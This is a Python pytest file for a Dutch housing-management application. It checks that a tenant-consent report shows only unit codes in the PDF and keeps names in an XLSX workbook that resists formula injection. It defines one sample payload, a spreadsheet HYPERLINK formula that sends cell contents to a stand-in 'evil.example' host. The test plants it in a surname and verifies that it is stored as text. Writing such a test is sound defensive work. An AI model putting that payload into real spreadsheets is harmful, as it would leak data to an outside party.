"""The consent report for the corporation: PDF with unit codes only, XLSX with names, safe
against formula injection; counts, percentage, threshold, statuses and deadlines in both."""

from __future__ import annotations

from dataclasses import replace
from datetime import date, datetime
from pathlib import Path

import pdfplumber
import pytest
from openpyxl import load_workbook
from sqlalchemy.orm import Session, sessionmaker

from keukentafel.domain.consent import Channel, local_moment
from keukentafel.domain.model import PersonName
from keukentafel.reports.consent import write_consent_report
from keukentafel.usecases.consent import (
    AnswerInput,
    ExclusionInput,
    consent_report,
    record,
    send_notice,
)
from tests import builders
from tests.builders import CONSENT, clock_at, consent_register, run

CLOCK = clock_at(datetime(2027, 3, 1, 12))
INJECTION = '=HYPERLINK("http://evil.example/?"&A1,"klik")'


@pytest.mark.slow  # WeasyPrint: seconds
def test_the_report_shows_counts_and_deadlines_and_names_only_in_the_xlsx(
    sessions: sessionmaker[Session], tmp_path: Path
) -> None:
    snap = consent_register(14, owners=(13,), vacant=(14,), co_tenants=(3,))
    snap.residents[1] = replace(snap.residents[1], name=PersonName(surname=INJECTION))  # R2
    run(sessions, snap)
    answers = [
        AnswerInput(
            unit_code=f"VHE{n:05d}",
            answer="agree",
            at=local_moment(date(2027, 2, 10)),
            channel=Channel.PAPER,
        )
        for n in range(1, 10)
    ]
    exclusion = ExclusionInput(
        unit_code="VHE00012",
        at=local_moment(date(2027, 2, 1)),
        reason="Tijdelijk contract tot 1 mei",
        decided_by="jurist M. de Boer",
    )
    record(sessions, CONSENT, [*answers, exclusion], recorded_by="bea", clock=CLOCK)
    send_notice(
        sessions,
        CONSENT,
        builders.MemoryWriter(),
        on=date(2027, 3, 1),
        mailing_id="zeventig",
        started_by="cli:bea",
        clock=CLOCK,
    )
    report = consent_report(sessions, CONSENT, date(2027, 3, 2))
    files = write_consent_report(report, tmp_path)
    assert files.pdf.name == "P-consent-2027-03-02.pdf"

    with pdfplumber.open(files.pdf) as pdf:
        text = " ".join(page.extract_text() or "" for page in pdf.pages)
    assert "9 of 11 agreed (81.8182%)" in text and "presumption applies" in text
    assert "VHE00010" in text and "2027-04-26" in text  # the last day of its notice
    assert "7/10" in text and "owners' track" in text
    for private in ("Jansen", "HYPERLINK", "R3B", "Tijdelijk contract", "de Boer", "Dorpsstraat"):
        assert private not in text

    workbook = load_workbook(files.xlsx)
    units = workbook["units"]
    header = [cell.value for cell in units[1]]
    rows = [dict(zip(header, (c.value for c in row), strict=True)) for row in units.iter_rows(2)]
    by_unit = {row["unit"]: row for row in rows}
    assert by_unit["VHE00003"]["parties"].startswith("J. Jansen3 (tenant): whole agree")
    assert by_unit["VHE00010"]["last day to go to court"] == datetime(2027, 4, 26)
    assert by_unit["VHE00012"]["exclusion reason"] == "Tijdelijk contract tot 1 mei"
    assert by_unit["VHE00013"]["status whole"] == "owners' track (does not count)"
    injected = next(
        cell for row in units.iter_rows(2) for cell in row if INJECTION in str(cell.value)
    )
    assert injected.data_type == "s" and injected.quotePrefix  # text, never a formula
    assert not any(
        cell.data_type == "f" for sheet in workbook for row in sheet.iter_rows() for cell in row
    )
    tally = workbook["tally"]
    values = [cell.value for row in tally.iter_rows() for cell in row]
    assert "81.8182%" in values and "9/11" in values and "7/10" in values
